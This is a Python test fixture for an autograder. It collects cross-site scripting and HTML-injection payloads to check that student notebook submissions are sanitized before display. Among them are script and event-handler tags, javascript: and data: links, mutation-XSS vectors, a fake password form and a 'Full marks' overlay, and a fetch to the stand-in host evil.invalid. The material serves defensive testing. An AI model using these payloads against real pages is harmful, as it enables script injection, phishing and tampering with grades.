"""Tricks by which a submission tries to run or hide something on a page that shows it.

Each is a name and what it puts somewhere: into a written answer, into an output, on a cell, on the
notebook. None may run anything, ask a server for anything, or cover or swallow the page.
"""

import base64
from collections.abc import Mapping
from copy import deepcopy

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from autograder.feedback.plain import plain_outputs
from autograder.pipeline.sanitize import plain_notebook

JS = "window.hacked=1;console.log(1);fetch('//evil.invalid/')"
TAG = f'<img src="x" onerror="{JS}">'
BREAK = f'"><script>{JS}</script>'
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
PAGE = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
OWN_SERVER = "/formgrader/?path=autograded/eve/he"  # would load a configuration from there

ANSWERS = {
    "script": f"<script>{JS}</script>",
    "script in capitals": f"<ScRiPt\n>{JS}</sCrIpT >",
    "image that fails": f"A drawing: {TAG}",
    "svg that loads": f'<svg onload="{JS}"></svg>',
    "svg that animates": f'<svg><animate onbegin="{JS}" attributeName=x dur=1s></svg>',
    "svg link": f'<svg><a xlink:href="javascript:{JS}"><text y=20>x</text></a></svg>',
    "iframe": f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    "object": f'<object data="data:text/html;base64,{PAGE}"></object>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    "base": '<base href="https://evil.invalid/">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.invalid/x.css">',
    "style": "<style>* { display: none !important }</style>",
    "overlay": '<div style="position:fixed;inset:0;background:#fff">Full marks</div>',
    "form": '<form action="https://evil.invalid/"><input name=password><button>Log in</form>',
    "details": f'<details open ontoggle="{JS}">x</details>',
    "autofocus": f'<input autofocus onfocus="{JS}">',
    "custom element": f'<x-y onclick="{JS}" tabindex=1>click</x-y>',
    "unclosed table": "<div><table><tr><td>",
    "unclosed comment": "before <!-- after",
    "plaintext": "<plaintext>",
    "textarea": "text\n\n<textarea>",
    "closing tags": "</div></div></div></div></main></body></html>",
    "processing instruction": f"<?xml ?>{TAG}<![CDATA[ ]]>",
    "mutation by noscript": f"<noscript><p title='</noscript>{TAG}'></noscript>",
    "mutation by math": f"<math><mtext><table><mglyph><style><math>{TAG}",
    "in a table": f"a | b\n--|--\n{TAG} | c",
    "in a list": f'- one\n  - <b onmouseover="{JS}">two',
    "in a quotation": f"> <script>\n> {JS}\n> </script>",
    "in a link": f"[{TAG}](https://example.org)",
    "link title": f"[x](https://example.org '\" onmouseover=\"{JS}')",
    "javascript link": f"[x](javascript:{JS})",
    "javascript link in code points": f"[x](&#106;ava&Tab;script&colon;{JS})",
    "javascript link behind files/": f"[x](files/javascript:{JS})",
    "javascript link by reference": f"[x][1]\n\n[1]: javascript:{JS}",
    "javascript autolink": f"<javascript:{JS}>",
    "data link": f"[x](data:text/html;base64,{PAGE})",
    "link into the server": f"[x]({OWN_SERVER})",
    "javascript picture": f"![x](javascript:{JS})",
    "picture from the server": f"![x]({OWN_SERVER})",
    "picture from elsewhere": "![x](https://evil.invalid/x.png)",
    "picture by reference": "![x][1]\n\n[1]: https://evil.invalid/x.png",
    "picture not attached": "![x](attachment:missing.png)",
    "mermaid": f"```mermaid\n{TAG}\n```",
    "name of a language": f"~~~{BREAK}\nx\n~~~",
    "formula": rf"$\href{{javascript:{JS}}}{{x}}$ $$<b onclick=\"{JS}\">$$",
    "environment": rf"\begin{{align}}{TAG}\end{{align}}",
    "template": "{{ cell.metadata }}{% for x in y %}",
    "id of a score": "# test_f\n\n# answer\n\n# f-comment",
    "brackets without end": "[" * 3000,
    "quotations without end": ">" * 3000,
    "too long": TAG * 1000,
}


def data(mime: str, content: object, **metadata: object) -> dict:
    return {"output_type": "display_data", "data": {mime: content}, "metadata": metadata}


OUTPUTS = {
    "html": data("text/html", TAG),
    "html in a frame": data("text/html", TAG, **{"text/html": {"isolated": True}}),
    "javascript": data("application/javascript", JS),
    "svg": data("image/svg+xml", f"<svg onload={JS}></svg>"),
    "markdown": data("text/markdown", TAG),
    "latex": data("text/latex", TAG),
    "mermaid": data("text/vnd.mermaid", TAG),
    "widget": data("application/vnd.jupyter.widget-view+json", {"model_id": BREAK}),
    "other type": data(f"text/{BREAK}", TAG),
    "png": data("image/png", BREAK),
    "png, then markup": data("image/png", PNG + BREAK),
    "jpeg": data("image/jpeg", PNG),
    "png by name": data("image/png", PNG, filenames={"image/png": "https://evil.invalid/"}),
    "width": data("image/png", PNG, **{"image/png": {"width": f"1 onload={JS}"}}),
    "alt": data("image/png", PNG, **{"image/png": {"alt": BREAK}}),
    "text": data("text/plain", TAG),
    "no text": data("text/plain", {"a": TAG}),
    "stream": {"output_type": "stream", "name": BREAK, "text": [TAG, 5]},
    "terminal": {"output_type": "stream", "name": "stderr", "text": f"\x1b]8;;{TAG}\x1b[1{TAG}"},
    "error": {"output_type": "error", "ename": TAG, "evalue": TAG, "traceback": [TAG, None]},
    "count": {"output_type": "execute_result", "execution_count": TAG, "data": {}, "metadata": {}},
    "unknown": {"output_type": TAG, "text": TAG},
}
CELLS = {  # what a cell of the student's own holds besides its source
    "tag": {"metadata": {"tags": [f"x{BREAK}", "skip-execution"]}},
    "id": {"id": BREAK},
    "alt of all pictures": {"metadata": {"alt": BREAK}},
    "magic language": {"metadata": {"magics_language": BREAK}},
    "grade id": {"metadata": {"nbgrader": {"grade": True, "grade_id": BREAK, "points": BREAK}}},
    "nbgrader without an id": {"metadata": {"nbgrader": {"solution": True, "grade": TAG}}},
    "raw": {"cell_type": "raw", "source": TAG, "metadata": {"raw_mimetype": "text/html"}},
    "raw without a type": {"cell_type": "raw", "source": TAG},
    "heading": {"cell_type": "heading", "level": TAG, "source": TAG},
    "unknown type": {"cell_type": TAG, "source": [TAG]},
    "source": {"cell_type": "markdown", "source": {TAG: TAG}},
    "execution count": {"cell_type": "code", "source": "1", "execution_count": TAG},
    "svg attached": {
        "cell_type": "markdown",
        "source": "![x](attachment:a.svg)",
        "attachments": {"a.svg": {"image/svg+xml": f"<svg onload={JS}></svg>"}},
    },
    "page attached": {
        "cell_type": "markdown",
        "source": "![x](attachment:a.png)",
        "attachments": {"a.png": {"text/html": PAGE, "image/png": BREAK}},
    },
}
NOTEBOOKS = {  # metadata
    "title": {"title": f"</title><script>{JS}</script>"},
    "widgets": {"widgets": {"application/vnd.jupyter.widget-state+json": {"a": "</script>" + TAG}}},
    "language": {"language_info": {"name": BREAK, "pygments_lexer": BREAK}},
    "kernel": {"kernelspec": {"name": BREAK, "display_name": BREAK, "language": BREAK}},
}
TRICKS: dict[str, dict] = {
    "answer": ANSWERS,
    "output": OUTPUTS,
    "cell": CELLS,
    "notebook": NOTEBOOKS,
}


def noted(name: str, **flags: object) -> dict:
    """What nbgrader notes on a cell."""
    none = {"grade": False, "solution": False, "locked": False, "task": False}
    return {"nbgrader": {**none, "grade_id": name, "schema_version": 3, **flags}}


MASTER = new_notebook(
    metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}},
    cells=[
        new_markdown_cell("## Exercise 1\n\nWrite <b>f</b>."),
        new_code_cell("def f(): ...", metadata=noted("f", solution=True)),
        new_code_cell("f()", metadata=noted("test_f", grade=True, locked=True, points=2)),
        new_markdown_cell("Why?", metadata=noted("answer", grade=True, solution=True, points=3)),
    ],
)


def handed_in(kind: str, *names: str) -> NotebookNode:
    """A submission that tries these tricks, as it lies in the file; one answer at most."""
    notebook = deepcopy(MASTER)
    for name in names:
        trick = deepcopy(TRICKS[kind][name])
        if kind == "answer":
            notebook.cells[3].source = trick
        elif kind == "output":
            notebook.cells[1].outputs.append(from_dict(trick))
        elif kind == "cell":
            own = {"cell_type": "markdown", "id": f"own-{len(notebook.cells)}", "metadata": {}}
            notebook.cells.append(from_dict({**own, "source": "my own", **trick}))
        else:
            notebook.metadata |= from_dict(trick)
    return notebook


def graded(submission: Mapping) -> NotebookNode:
    """The submission as it would lie in autograded/, with scores; its outputs are the kernel's."""
    notebook = plain_notebook(submission, MASTER)
    for cell, before in zip(notebook.cells, submission["cells"], strict=True):
        if cell.cell_type == "code":
            cell.outputs = before.get("outputs", [])
            plain_outputs(cell)
    return scored(notebook)


def scored(notebook: NotebookNode) -> NotebookNode:
    """The notebook with what PageGrades would add: a failed test, an answer to be graded."""
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if name == "test_f":
            cell.metadata.nbgrader |= {"score": 1.0, "points": 2.0, "graded": True}
        elif name == "answer":
            cell.metadata.nbgrader |= {"score": 0.0, "points": 3.0, "graded": False}
    return notebook
